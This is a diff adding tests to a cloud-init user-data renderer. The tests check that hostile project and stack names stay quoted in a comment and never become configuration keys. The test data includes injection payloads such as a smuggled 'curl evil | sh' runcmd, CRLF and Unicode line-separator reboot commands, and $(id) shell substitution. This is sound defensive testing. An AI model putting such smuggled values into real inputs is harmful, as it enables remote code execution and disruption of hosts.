@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import shutil
@@ -84,3 +85,47 @@ def test_cloud_init_schema_would_catch_a_bad_key(tmp_path: Path) -> None:
         check=False,
     )
     assert done.returncode != 0
+
+
+# -- what user data embeds is quoted (issue 29, class 5) -------------------------------------
+
+HOSTILE = [
+    ("gpu-ci\nruncmd: [[sh, -c, 'curl evil | sh']]", "dev"),
+    ("gpu-ci", "dev\r\nbootcmd: [reboot]"),
+    ("gpu-ci", "a$(id)`id`!x"),
+    ("gpu-ci", "dev\u2028runcmd: [reboot]\u0085x"),
+    ("#cloud-config", "' \" # : - [ { &a *a"),
+]
+
+
+@pytest.mark.parametrize(("project", "stack"), HOSTILE)
+def test_names_the_cli_would_refuse_stay_inside_their_comment(project: str, stack: str) -> None:
+    """The CLI refuses such names, unless its validation is off (PULUMI_DISABLE_VALIDATION);
+    the user data still holds only its own keys, and the names only as data."""
+    text = render_vm_user_data(project=project, stack=stack, role="gpu-runner", index=0)
+    head, comment, *rest = text.split("\n")
+    assert head == "#cloud-config"
+    assert comment.startswith("# gpu-ci ") and all(not line.startswith("#") for line in rest)
+    assert comment.isascii() and not any(c in comment for c in "$`!\r\x85")
+    body = yaml.safe_load(text)
+    assert sorted(body) == ["growpart", "resize_rootfs", "write_files"]
+    assert len(body["write_files"]) == 1
+    identity = json.loads(body["write_files"][0]["content"])
+    assert (identity["project"], identity["stack"]) == (project, stack)
+
+
+def test_a_quoted_name_reads_back_as_written() -> None:
+    text = render_vm_user_data(project="gpu-ci", stack="a$(id)\nx", role="gpu-runner", index=0)
+    comment = text.split("\n")[1]
+    assert comment == (
+        '# gpu-ci gpu-ci/"a\\u0024(id)\\nx": gpu-runner 0. Host software comes from the host layer.'
+    )
+    assert json.loads(comment.split("/", 1)[1].split(":")[0]) == "a$(id)\nx"
+
+
+def test_plain_names_are_embedded_as_written() -> None:
+    """Names the CLI takes are written as before: no existing VM's user data changes."""
+    text = render_vm_user_data(project="gpu-ci", stack="gpu-dev.2_x", role="gpu-runner", index=1)
+    assert text.split("\n")[1] == (
+        "# gpu-ci gpu-ci/gpu-dev.2_x: gpu-runner 1. Host software comes from the host layer."
+    )
